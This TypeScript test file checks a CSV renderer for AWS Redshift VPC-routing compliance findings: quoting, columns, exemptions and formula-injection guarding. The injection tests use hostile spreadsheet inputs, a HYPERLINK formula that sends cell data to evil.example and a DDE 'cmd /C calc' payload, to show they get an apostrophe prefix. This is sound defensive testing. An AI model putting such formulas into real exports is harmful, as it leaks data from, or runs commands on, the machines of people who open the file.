import { expect } from 'chai';
import { CSV_HEADER, renderCsv } from '../../../src/cli/formats/csv.ts';
import { dnsProblem, finding, s3Problem, WORKGROUP_UUID } from './findingBuilder.ts';

/** A strict RFC 4180 reader: records end in CRLF, quoted fields may hold commas, quotes (doubled), CR and LF. */
const parseCsv = (text: string): string[][] => {
  const records: string[][] = [];
  let fields: string[] = [];
  let i = 0;
  while (i < text.length) {
    let value = '';
    if (text[i] === '"') {
      i += 1;
      for (;;) {
        if (i >= text.length) throw new Error('unterminated quoted field');
        if (text[i] === '"' && text[i + 1] === '"') {
          value += '"';
          i += 2;
        } else if (text[i] === '"') {
          i += 1;
          break;
        } else {
          value += text[i];
          i += 1;
        }
      }
    } else {
      while (i < text.length && text[i] !== ',' && text[i] !== '\r') {
        if (text[i] === '"' || text[i] === '\n') throw new Error(`bare ${JSON.stringify(text[i])} at ${i}`);
        value += text[i];
        i += 1;
      }
    }
    fields.push(value);
    if (text[i] === ',') {
      i += 1;
    } else if (text.startsWith('\r\n', i)) {
      records.push(fields);
      fields = [];
      i += 2;
    } else {
      throw new Error(`expected , or CRLF at ${i}`);
    }
  }
  if (fields.length > 0) throw new Error('last record not terminated by CRLF');
  return records;
};

const column = (name: (typeof CSV_HEADER)[number]): number => CSV_HEADER.indexOf(name);

describe('renderCsv', () => {
  it('starts with the documented header and ends every line, the last too, with CRLF', () => {
    const text = renderCsv([finding(), finding({ clusterIdentifier: 'bi-adhoc' })]);
    expect(text.split('\r\n')[0]).to.equal(
      'account_id,region,kind,cluster_arn,cluster_identifier,control_id,compliance,severity,enhanced_vpc_routing,cluster_status,vpc_id,prerequisites_met,codes,problems,summary,observed_at,exemption_tag_key,exemption_reason,ignored_exemption',
    );
    expect(text.endsWith('\r\n')).to.equal(true);
    expect(text.replaceAll('\r\n', '')).not.to.match(/[\r\n]/);
    expect(parseCsv(text)).to.have.length(3);
  });

  it('renders only the header for no findings', () => {
    expect(parseCsv(renderCsv([]))).to.deep.equal([[...CSV_HEADER]]);
  });

  it('writes one field per column, with codes joined by ; and problems as "detail Fix: fix" joined by " | "', () => {
    const [, record] = parseCsv(renderCsv([finding({ problems: [s3Problem(), dnsProblem()] })]));
    expect(record).to.deep.equal([
      '111122223333',
      'us-east-1',
      'cluster',
      'arn:aws:redshift:us-east-1:111122223333:cluster:etl-prod',
      'etl-prod',
      'Redshift.7',
      'NON_COMPLIANT',
      'MEDIUM',
      'false',
      'available',
      'vpc-0ef9de29795b18aee',
      'false',
      'S3_ROUTE_MISSING;DNS_HOSTNAMES_DISABLED',
      'No S3 route from subnet-080920d8507931d25 (route table rtb-07b18a3d1c1538455). Fix: add an S3 gateway endpoint to rtb-07b18a3d1c1538455 | VPC vpc-0ef9de29795b18aee has DNS hostnames off (enableDnsHostnames). Fix: enable it (aws ec2 modify-vpc-attribute --vpc-id vpc-0ef9de29795b18aee --enable-dns-hostnames)',
      'Enhanced VPC routing is off. Ready to remediate.',
      '2024-05-01T12:34:56.789Z',
      '',
      '',
      '',
    ]);
  });

  it('gives an exemption its tag and reason, and an exemption that does not apply its sentence', () => {
    const column = (name: (typeof CSV_HEADER)[number], record: string[] | undefined) =>
      record?.[CSV_HEADER.indexOf(name)];
    const [, exempt, expired] = parseCsv(
      renderCsv([
        finding({ complianceType: 'NOT_APPLICABLE', exemption: { tagKey: 'evr-exempt', reason: 'vendor, SEC-1' } }),
        finding({
          ignoredExemption: { tagKey: 'evr-exempt', reason: 'old', until: '2026-01-31', why: 'expired' },
        }),
      ]),
    );
    expect(column('exemption_tag_key', exempt)).to.equal('evr-exempt');
    expect(column('exemption_reason', exempt)).to.equal('vendor, SEC-1');
    expect(column('ignored_exemption', exempt)).to.equal('');
    expect(column('exemption_tag_key', expired)).to.equal('');
    expect(column('ignored_exemption', expired)).to.match(/evr-exempt.*expired.*2026-01-31/);
  });

  it('names the kind of each row, a workgroup with its ARN, control, severity and status', () => {
    const [, cluster, workgroup] = parseCsv(renderCsv([finding(), finding({ kind: 'workgroup' })]));
    const pick = (record: string[] | undefined) =>
      (['kind', 'cluster_arn', 'cluster_identifier', 'control_id', 'severity', 'cluster_status'] as const).map(
        (name) => record?.[column(name)],
      );
    expect(pick(cluster)).to.deep.equal([
      'cluster',
      'arn:aws:redshift:us-east-1:111122223333:cluster:etl-prod',
      'etl-prod',
      'Redshift.7',
      'MEDIUM',
      'available',
    ]);
    expect(pick(workgroup)).to.deep.equal([
      'workgroup',
      `arn:aws:redshift-serverless:us-east-1:111122223333:workgroup/${WORKGROUP_UUID}`,
      'analytics-serverless',
      'RedshiftServerless.1',
      'HIGH',
      'AVAILABLE',
    ]);
  });

  it('leaves unknown values (account, ARN, VPC, unverified prerequisites) empty', () => {
    const [, record] = parseCsv(renderCsv([finding({ accountId: null, vpcId: null, prerequisitesMet: null })]));
    expect(record?.[column('account_id')]).to.equal('');
    expect(record?.[column('cluster_arn')]).to.equal('');
    expect(record?.[column('vpc_id')]).to.equal('');
    expect(record?.[column('prerequisites_met')]).to.equal('');
  });

  it('quotes fields with a comma, a double quote, CR or LF and doubles the quotes (RFC 4180 2.6, 2.7)', () => {
    const summary = 'Exempt: "legacy", see\r\nticket\nOPS-1\r';
    const text = renderCsv([finding({ summary, clusterStatus: 'plain' })]);
    expect(text).to.include('"Exempt: ""legacy"", see\r\nticket\nOPS-1\r"');
    expect(text).to.include(',plain,');
    const [, record] = parseCsv(text);
    expect(record?.[column('summary')]).to.equal(summary);
    expect(record).to.have.length(CSV_HEADER.length);
  });

  for (const start of ['=', '+', '-', '@', '\t', '\r', '\0']) {
    it(`prefixes a cell starting with ${JSON.stringify(start)} with an apostrophe (formula injection)`, () => {
      const hostile = `${start}HYPERLINK("http://evil.example/?x="&A1,"click")`;
      const [, record] = parseCsv(
        renderCsv([finding({ summary: hostile, clusterStatus: `${start}cmd|' /C calc'!A0` })]),
      );
      expect(record?.[column('summary')]).to.equal(`'${hostile}`);
      expect(record?.[column('cluster_status')]).to.equal(`'${start}cmd|' /C calc'!A0`);
    });
  }

  it('leaves cells that only contain formula characters later on as they are', () => {
    const [, record] = parseCsv(renderCsv([finding({ summary: 'a=b+c-d@e', clusterIdentifier: 'etl-prod' })]));
    expect(record?.[column('summary')]).to.equal('a=b+c-d@e');
    expect(record?.[column('cluster_identifier')]).to.equal('etl-prod');
  });

  it('guards a problem text that starts with a formula character', () => {
    const [, record] = parseCsv(renderCsv([finding({ problems: [s3Problem({ detail: '=1+1' })] })]));
    expect(record?.[column('problems')]).to.equal(`'=1+1 Fix: add an S3 gateway endpoint to rtb-07b18a3d1c1538455`);
  });
});
